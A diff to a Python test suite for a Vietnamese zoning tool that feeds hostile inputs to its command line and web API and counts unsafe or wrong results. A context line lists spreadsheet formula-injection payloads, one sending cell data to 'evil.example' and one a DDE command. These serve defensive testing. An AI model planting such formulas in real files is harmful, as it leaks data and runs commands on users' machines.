@@ -36,11 +36,12 @@ from zoning.files import temporary_path
 from zoning.resources import path as resource
 
 from .conftest import CRS, X0, Y0, admin_layers, frame, sensitive_layers, square
+from .hostile_silent import WebCase, silent_cases, silent_world, web_cases
 
 NATIONAL = resource("rules", "nd08.yaml")
 OVERLAY = resource("rules", "provinces", "cao-bang.yaml")
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"bấm")', "-2+3+cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(1)"]
-TALLY: dict[str, list[str]] = {"error": [], "ok": [], "traceback": [], "unsafe": []}
+TALLY: dict[str, list[str]] = {"error": [], "ok": [], "traceback": [], "wrong": [], "unsafe": []}
 
 
 # ------------------------------------------------------------------------- the inputs
@@ -208,6 +209,8 @@ def world(tmp_path_factory) -> dict[str, Path]:
     paths["hostile_layers"] = write_gpkg(root / "hostile-layers.gpkg", {**admin_layers(), "communes": communes, "urban_areas": towns})
     paths["hostile_build"] = root / "hostile-build.gpkg"
     invoke(["build", "--layers", paths["hostile_layers"], "--central-meridian", "105.75", "-o", paths["hostile_build"]])
+
+    silent_world(paths, root, write_gpkg, invoke)
 
     paths["a_file"] = root / "a-file.txt"
     paths["a_file"].write_text("not a folder", encoding="utf-8")
@@ -664,6 +667,8 @@ CASES = [
     Case(
         "build-missing-layers", ["build", "--layers", "{out}/none.gpkg", "--central-meridian", "105.75", "-o", "{out}/b.gpkg"], says=("none.gpkg", "not found")
     ),
+    # damaged builds, dates, invisible characters, flat geometry, silent cuts and empty results
+    *silent_cases(Case, w),
 ]
 
 
@@ -737,25 +742,83 @@ def test_hostile_input(case: Case, world, tmp_path, request):
             if case.check is not None:
                 case.check(world, out, result)
         except AssertionError:
-            if case.unsafe_check:
-                TALLY["unsafe"].append(case.id)
+            TALLY["unsafe" if case.unsafe_check else "wrong"].append(case.id)
             raise
         TALLY["ok"].append(case.id)
 
 
+WEB_CASES = web_cases(site_rows(), google_earth_kml(site_rows()))
+
+
+@pytest.fixture(scope="module")
+def web_client(world):
+    from fastapi.testclient import TestClient
+
+    from zoning.web import create_app
+
+    with TestClient(create_app([world["build"]], offline=True)) as client:
+        yield client
+
+
+@pytest.mark.parametrize("case", WEB_CASES, ids=[c.id for c in WEB_CASES])
+def test_hostile_request(case: WebCase, world, web_client):
+    """One request to the web application: the status, a message in both languages naming what is wrong, inputs
+    unchanged, no upload folder left behind, and for a good request the right answer."""
+    import tempfile
+
+    from zoning.web.inputs import UPLOAD_PREFIX
+
+    uploads = set(Path(tempfile.gettempdir()).glob(UPLOAD_PREFIX + "*"))
+    before = digests(world["root"])
+    request: dict = {"files": case.files(world)} if case.files else {}
+    request |= {"data": case.data} if case.data else {}
+    request |= {"json": case.json} if case.json is not None else {}
+    request |= {"content": case.raw, "headers": {"content-type": "application/json"}} if case.raw is not None else {}
+    try:
+        response = web_client.post(case.path, **request)
+    except Exception:
+        TALLY["traceback"].append(case.id)
+        raise
+    if response.status_code >= 500:
+        TALLY["traceback"].append(case.id)
+    assert response.status_code < 500, f"{case.id}: {response.status_code} {response.text[:500]}"
+    after = digests(world["root"])
+    if any(before[k] != after.get(k) for k in before):
+        TALLY["unsafe"].append(case.id)
+    assert before == {k: after[k] for k in before}, f"{case.id}: input changed"
+    assert set(Path(tempfile.gettempdir()).glob(UPLOAD_PREFIX + "*")) == uploads, f"{case.id}: upload folder left"
+    assert response.status_code == case.status, f"{case.id}: {response.status_code} {response.text[:500]}"
+    if case.status >= 400:
+        error = response.json()["error"]
+        assert error["vi"] and error["en"] and error["vi"] != error["en"], error
+        text = " ".join([error["vi"], error["en"], *(error.get("hint") or {}).values()])
+        assert "<GeoDataFrame>" not in text and "Traceback" not in text and "/tmp/" not in text, text
+        for fragment in case.says:
+            assert fragment in text, f"{case.id}: {fragment!r} not in {text}"
+        TALLY["error"].append(case.id)
+        return
+    try:
+        if case.check is not None:
+            case.check(response.json())
+    except AssertionError:
+        TALLY["wrong"].append(case.id)
+        raise
+    TALLY["ok"].append(case.id)
+
+
 def test_tally():
     """The figures of the battery (printed with ``pytest -s``): every case behaved."""
-    tried = len(CASES)
+    tried = len(CASES) + len(WEB_CASES)
     counted = len(TALLY["error"]) + len(TALLY["ok"])
     line = (
         f"tried {tried}, clear errors {len(TALLY['error'])}, correct results {len(TALLY['ok'])}, "
-        f"tracebacks {len(TALLY['traceback'])}, unsafe {len(TALLY['unsafe'])}"
+        f"tracebacks {len(TALLY['traceback'])}, wrong {len(TALLY['wrong'])}, unsafe {len(TALLY['unsafe'])}"
     )
     print("\n" + line)
     if counted == 0:
         pytest.skip("the battery was not run in this session")
-    assert tried >= 80
-    assert not TALLY["traceback"] and not TALLY["unsafe"], line
+    assert tried >= 150
+    assert not TALLY["traceback"] and not TALLY["wrong"] and not TALLY["unsafe"], line
     assert counted == tried, line
 
 
